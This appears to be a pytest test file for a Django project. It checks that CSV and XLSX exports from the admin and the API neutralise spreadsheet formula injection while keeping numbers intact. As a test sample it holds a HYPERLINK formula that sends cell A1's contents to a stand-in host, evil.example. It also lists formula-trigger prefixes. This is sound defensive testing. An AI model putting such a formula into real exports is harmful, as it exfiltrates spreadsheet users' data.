"""Exports that cannot attack a spreadsheet: every CSV and XLSX the project writes (the admin's
exports and the API's CSV) makes a text that would start a formula inert, by one rule
(facts.domain.spreadsheets), without changing the stored values; number columns keep numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.db import models
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse

from facts.domain.spreadsheets import as_written, inert
from facts.models import Claim, Outlet
from facts.workspace.resources import ClaimResource, OutletResource
from tests.factories import ArticleFactory, ClaimFactory, OutletFactory

pytestmark = pytest.mark.django_db

# The admins offer CSV then XLSX; the export form takes a format by its index.
FORMATS = {"csv": "0", "xlsx": "1"}
RESOURCES = {Outlet: OutletResource, Claim: ClaimResource}
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PREFIX_IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]
# A wording is stored with its text's line breaks as \n (facts.domain.text): it cannot start
# with a carriage return, which the outlet names test.
WORDING_PREFIXES = PREFIXES[:-1]
WORDING_PREFIX_IDS = PREFIX_IDS[:-1]
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def admin_export(client: Client, model: type[models.Model], fmt: str) -> HttpResponse:
    """Every row with every column, as the admin's export form posts it."""
    resource = RESOURCES[model]
    columns = {
        f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()
    }
    page = reverse(f"admin:facts_{model._meta.model_name}_export")
    return client.post(page, {"format": FORMATS[fmt], "resource": "0", **columns})


def csv_table(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> tuple[list[str], list[list]]:
    """The header and the rows' cells (openpyxl's, with their data types)."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *rows = list(sheet.iter_rows())
    return [cell.value for cell in header], rows


def exported_cell(client: Client, model: type[models.Model], fmt: str, column: str) -> str:
    content = admin_export(client, model, fmt).content
    if fmt == "csv":
        (row,) = csv_table(content)
        return row[column]
    header, (row,) = xlsx_cells(content)
    assert [cell.data_type for cell in row if cell.data_type == "f"] == []
    return row[header.index(column)].value


@pytest.fixture
def superuser_client(admin_client_logged_in: Client) -> Client:
    return admin_client_logged_in


# The rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # Already behind an apostrophe: one more, so that the import gives it back exactly.
        ("'=1", "''=1"),
        ("'plain", "'plain"),
        ("plain -1", "plain -1"),
        ("", ""),
    ],
)
def test_a_text_that_starts_a_formula_goes_behind_an_apostrophe_and_comes_back(text, cell):
    assert inert(text) == cell
    assert as_written(cell) == text


@pytest.mark.parametrize("number", [-5, Decimal("-5.5"), -0.25, None])
def test_a_number_stays_a_number(number):
    assert inert(number) is number


def test_a_negative_number_in_an_admin_number_column_stays_a_number():
    resource = ClaimResource()
    claim = Claim(number=Decimal("-5"), wording="-5 soldiers")
    number, wording = resource.fields["number"], resource.fields["wording"]
    # CSV gets the digits, XLSX the number itself: a number cell either way, never "'-5".
    assert resource.export_field(number, claim) == "-5"
    assert resource.export_field(number, claim, force_native_type=True) == Decimal("-5")
    assert resource.export_field(wording, claim) == "'-5 soldiers"


# The admin's exports ----------------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_admin_exports_an_outlet_name_that_starts_a_formula_as_text(
    superuser_client, fmt, prefix
):
    name = prefix + ATTACK[1:]
    outlet = OutletFactory(name=name)

    cell = exported_cell(superuser_client, Outlet, fmt, "name")

    assert cell == "'" + name
    assert Outlet.objects.get(pk=outlet.pk).name == name


@pytest.mark.parametrize("prefix", WORDING_PREFIXES, ids=WORDING_PREFIX_IDS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_admin_exports_a_claim_wording_that_starts_a_formula_as_text(
    superuser_client, fmt, prefix
):
    wording = prefix + "SUM(1,2) brigades"
    article = ArticleFactory(text=f"Officials counted {wording} near the border.")
    claim = ClaimFactory(article=article, wording=wording, number=3, bound="exact", hedge="")

    cell = exported_cell(superuser_client, Claim, fmt, "wording")

    assert cell == "'" + wording
    assert Claim.objects.get(pk=claim.pk).wording == wording


def test_the_admin_xlsx_has_no_formula_cell_and_its_numbers_are_numbers(superuser_client):
    article = ArticleFactory(text="Officials counted =SUM(1,2) brigades near the border.")
    ClaimFactory(article=article, wording="=SUM(1,2) brigades", number=3, bound="exact", hedge="")
    header, rows = xlsx_cells(admin_export(superuser_client, Claim, "xlsx").content)
    (row,) = rows

    assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
    assert row[header.index("wording")].data_type == "s"
    assert row[header.index("number")].data_type == "n"
    assert row[header.index("number")].value == 3
    assert row[header.index("start")].value == 18


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_formula_imports_back_as_the_stored_text(superuser_client, fmt):
    outlet = OutletFactory(name=ATTACK)
    version = Outlet.objects.get(pk=outlet.pk).version
    content = admin_export(superuser_client, Outlet, fmt).content
    upload = io.BytesIO(content)
    upload.name = f"outlets.{fmt}"
    page = superuser_client.post(
        reverse("admin:facts_outlet_import"),
        {"format": FORMATS[fmt], "resource": "0", "import_file": upload},
    )
    result = page.context["result"]

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == 1
    stored = Outlet.objects.get(pk=outlet.pk)
    assert (stored.name, stored.version) == (ATTACK, version)


# The API's CSV: the same rule ------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_the_api_csv_makes_an_outlet_name_and_a_wording_inert_by_the_same_rule(client, prefix):
    name = prefix + ATTACK[1:]
    wording = prefix.replace("\r", "\t") + "SUM(1,2) brigades"
    article = ArticleFactory(
        outlet=OutletFactory(name=name), text=f"Officials counted {wording} near the border."
    )
    ClaimFactory(article=article, wording=wording, number=3, bound="exact", hedge="")

    (row,) = csv_table(client.get("/api/claims/", {"format": "csv"}).content)

    assert (row["outlet_name"], row["wording"]) == ("'" + name, "'" + wording)
    assert row["number"] == "3.0"
